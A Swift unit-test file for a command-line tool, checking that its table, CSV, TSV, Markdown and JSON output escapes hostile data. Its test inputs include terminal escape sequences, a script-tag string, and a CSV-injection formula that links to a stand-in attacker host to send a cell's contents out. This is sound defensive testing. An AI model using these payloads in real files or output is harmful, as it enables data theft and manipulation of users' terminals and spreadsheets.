import XCTest
import MisqCLI
@testable import MisqKit

/// Output never harms its reader: no terminal controls from data, no
/// spreadsheet formulas from CSV cells, no invalid JSON, numbers raw where
/// machines read them. The whole-CLI outputs for a hostile CSV are golden
/// cases (Golden/cli/hostile_*.case); these pin the rules one by one.
final class OutputSafetyTests: XCTestCase {
    let hostile = Fixtures.golden + "/files/hostile.csv"

    func grid(_ texts: [String], numbers: [Double] = []) -> Grid {
        Grid(header: ["label"] + (numbers.isEmpty ? [] : ["n"]),
             rows: texts.enumerated().map { k, t in [Grid.Cell(t)] + (k < numbers.count ? [Grid.Cell("x", number: numbers[k])] : []) },
             footer: [])
    }

    func testTerminalTextShowsEveryControl() {
        XCTAssertEqual(TerminalText.escape("\u{1B}[2Jx"), "\\e[2Jx")
        XCTAssertEqual(TerminalText.escape("\u{1B}]0;t\u{07}"), "\\e]0;t\\x07")
        XCTAssertEqual(TerminalText.escape("a\tb\nc\rd"), "a\\tb\\nc\\rd")
        // C1 CSI (a one-byte ESC [ on some terminals), DEL, and a bidi override.
        XCTAssertEqual(TerminalText.escape("\u{9B}31m\u{7F}\u{202E}"), "\\x9B31m\\x7F\\u{202E}")
        XCTAssertEqual(TerminalText.escape("Dismissal — é"), "Dismissal — é")
        XCTAssertEqual(TerminalText.screen("a\tb\n\u{1B}[0m\n"), "a\tb\n\\e[0m\n")
    }

    func testBoxTableSendsNoControlsAndMeasuresWhatItShows() {
        let out = BoxTable.render(Grid(header: ["\u{1B}[31mh"], rows: [[Grid.Cell("\u{1B}]0;title\u{07}")], [Grid.Cell("two\nlines")]],
                                       footer: ["dataset: \u{1B}[2J"]))
        XCTAssertFalse(out.unicodeScalars.contains { TerminalText.isControl($0) && $0 != "\n" }, out)
        let lines = out.split(separator: "\n")
        XCTAssertTrue(lines.contains { $0.contains("│ \\e]0;title\\x07 │") }, out)
        XCTAssertTrue(lines.contains { $0.contains("│ two\\nlines     │") }, out)
        XCTAssertEqual(lines.last, "dataset: \\e[2J")
    }

    func testErrorsShowControlsFromData() {
        let e = MisqError(.value, "'x' is not a value of '\u{1B}[2Jlabel'", source: SourceFile(name: "f", text: "count \u{9B}2J x"),
                          span: SourceSpan(0, 5), suggestion: "did you mean '\u{1B}]0;t\u{07}'?", notes: ["values: \u{1B}[31mred"])
        let out = DiagnosticRenderer.render(e)
        XCTAssertFalse(out.unicodeScalars.contains { TerminalText.isControl($0) && $0 != "\n" }, out)
        XCTAssertTrue(out.contains("error: 'x' is not a value of '\\e[2Jlabel'"), out)
        XCTAssertTrue(out.contains("1 | count ?2J x"), out)  // a C1 control in the source line: one column, as before
        XCTAssertTrue(out.contains("help: did you mean '\\e]0;t\\x07'?"), out)
    }

    /// OWASP "CSV Injection": = + - @ tab CR at the start of a text cell.
    func testSpreadsheetFormulasAreNeutralisedInTextCellsOnly() {
        let g = Grid(header: ["=cmd", "n"],
                     rows: [[Grid.Cell("=HYPERLINK(\"http://x\")"), Grid.Cell("-2", number: -2)],
                            [Grid.Cell("+1"), Grid.Cell("3.5", number: 3.5)],
                            [Grid.Cell("-2"), Grid.Cell("0", number: 0)],
                            [Grid.Cell("@SUM(A1)"), Grid.Cell("1", number: 1)],
                            [Grid.Cell("\tx"), Grid.Cell("1", number: 1)],
                            [Grid.Cell("\rx"), Grid.Cell("1", number: 1)],
                            [Grid.Cell("a=b"), Grid.Cell("1", number: 1)]],
                     footer: [])
        XCTAssertEqual(Renderer.render(g, as: .csv),
                       "'=cmd,n\n\"'=HYPERLINK(\"\"http://x\"\")\",-2\n'+1,3.5\n'-2,0\n'@SUM(A1),1\n'\tx,1\n\"'\rx\",1\na=b,1\n")
        XCTAssertEqual(Renderer.render(g, as: .tsv),
                       "'=cmd\tn\n'=HYPERLINK(\"http://x\")\t-2\n'+1\t3.5\n'-2\t0\n'@SUM(A1)\t1\n'\\tx\t1\n'\\rx\t1\na=b\t1\n")
        XCTAssertEqual(Renderer.render(g, as: .csv, rawCells: true),
                       "=cmd,n\n\"=HYPERLINK(\"\"http://x\"\")\",-2\n+1,3.5\n-2,0\n@SUM(A1),1\n\tx,1\n\"\rx\",1\na=b,1\n")
    }

    func testTSVEscapesInsteadOfFlattening() {
        XCTAssertEqual(Renderer.render(grid(["a\tb", "two\nlines", "cr\rhere", "back\\slash", "crlf\r\nend"]), as: .tsv),
                       "label\na\\tb\ntwo\\nlines\ncr\\rhere\nback\\\\slash\ncrlf\\r\\nend\n")
    }

    func testMarkdownKeepsOneRowPerLineAndShowsHTMLAsText() {
        let out = Renderer.render(grid(["two\nlines", "<script>alert(1)</script>", "a|b", "x & y", "\u{1B}[2J"]), as: .markdown)
        XCTAssertEqual(out, """
            | label |
            | --- |
            | two<br>lines |
            | &lt;script&gt;alert(1)&lt;/script&gt; |
            | a\\|b |
            | x &amp; y |
            | \\e\\[2J |

            """)
    }

    /// CSV, TSV and JSON carry numbers at full precision; the table rounds.
    /// Expected text from Python: repr(100 * 1 / 3) == '33.333333333333336',
    /// repr(2 / 3) == '0.6666666666666666'.
    func testMachineFormatsCarryNumbersRaw() {
        let g = Grid(header: ["k", "n", "percent"], rows: [[Grid.Cell("a"), Grid.value(2.0 / 3.0, integer: false), Grid.percent(1, of: 3)]], footer: [])
        XCTAssertEqual(Renderer.render(g, as: .csv), "k,n,percent\na,0.6666666666666666,33.333333333333336\n")
        XCTAssertEqual(Renderer.render(g, as: .tsv), "k\tn\tpercent\na\t0.6666666666666666\t33.333333333333336\n")
        XCTAssertTrue(Renderer.render(g, as: .json).contains("{\"k\": \"a\", \"n\": 0.6666666666666666, \"percent\": 33.333333333333336}"))
        XCTAssertTrue(Renderer.render(g, as: .table).contains("│ a │ 0.667 │   33.3% │"), Renderer.render(g, as: .table))
        XCTAssertEqual(Renderer.rawNumber(1234), "1234")
        XCTAssertEqual(Renderer.rawNumber(-0.0), "0")
        XCTAssertNil(Renderer.rawNumber(.infinity))
    }

    /// Every hostile value through the real CLI as JSON, read back by
    /// Foundation's parser and compared with the CSV as Python's csv module
    /// reads it (the labels below are the fixture's, as written by it).
    func testHostileJSONParsesAndCarriesTheValuesExactly() throws {
        let (out, err, code) = MisqCLI.capture(["--data", hostile, "--format", "json", "-e", "show hostile"])
        XCTAssertEqual(code, 0, err)
        // One document for the run: an array with an object per answer.
        let doc = try XCTUnwrap((JSONSerialization.jsonObject(with: Data(out.utf8)) as? [[String: Any]])?.first)
        let rows = try XCTUnwrap(doc["rows"] as? [[String: Any]])
        XCTAssertEqual(rows.count, 14)
        let labels = rows.compactMap { $0["label"] as? String }
        XCTAssertEqual(labels, ["\u{1B}[2J\u{1B}[HCleared", "\u{1B}]0;pwned\u{07}Title", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
                                "+1", "-2", "@SUM(A1:A9)", "\tTabbed", "\rCarriage", "two\nlines", "a\tb", "<script>alert(1)</script>",
                                "a|b|c", "\u{1B}[31mred\u{1B}[0m", "back\\slash"])
        XCTAssertEqual(rows.compactMap { ($0["amount"] as? NSNumber)?.doubleValue }, [3, -5, 2.5, 1, -2, 4, 0, 7, 1, 1, 1, 1, 1, 1])
    }

    /// A sum past Double's range is infinite, an average of nothing NaN:
    /// JSON has neither (`inf` made the document unreadable), so null.
    func testJSONNeverPrintsInfinityOrNaN() throws {
        let g = Grid(header: ["sum", "avg", "percent"], rows: [[Grid.value(.infinity, integer: false), Grid.value(.nan, integer: false),
                                                                Grid.Cell("-inf%", number: -.infinity, isPercent: true)]], footer: [])
        let out = Renderer.render(g, as: .json)
        XCTAssertFalse(out.contains("inf") || out.contains("nan") || out.contains("NaN"), out)
        let doc = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(out.utf8)) as? [String: Any])
        let row = try XCTUnwrap((doc["rows"] as? [[String: Any]])?.first)
        XCTAssertTrue(row["sum"] is NSNull && row["avg"] is NSNull && row["percent"] is NSNull, out)
    }

    func testRawIsAnOptionForCSVAndTSVOnly() {
        let raw = MisqCLI.capture(["--data", hostile, "--format", "csv", "--raw", "-e", "show hostile where case_id = H04"])
        XCTAssertEqual(raw.out, "case_id,label,team,amount\nH04,+1,Bravo,1\n")
        let guarded = MisqCLI.capture(["--data", hostile, "--format", "csv", "-e", "show hostile where case_id = H04"])
        XCTAssertEqual(guarded.out, "case_id,label,team,amount\nH04,'+1,Bravo,1\n")
        let table = MisqCLI.capture(["--data", hostile, "--raw", "-e", "show hostile"])
        XCTAssertEqual(table.code, 2)
        XCTAssertTrue(table.err.contains("--raw applies to --format csv or tsv"), table.err)
    }

    /// `.describe` exists only at the prompt; under -e the hint names the command.
    func testHintsNameTheDescribeCommandThatWorksThere() {
        let e = MisqCLI.capture(["--datasets", Fixtures.small, "-e", "count cases where outcome = zzzzzzzz"])
        XCTAssertTrue(e.err.contains("'misq describe outcome' lists its values"), e.err)
        let s = Fixtures.smallSession.fork()
        s.describeCommand = ".describe"
        XCTAssertThrowsError(try Fixtures.results("count cases where qqqqqqqqqq = x", session: s)) { error in
            XCTAssertEqual(error.misqErrors.first?.suggestion, "'.describe allegations' lists its columns")
        }
    }
}
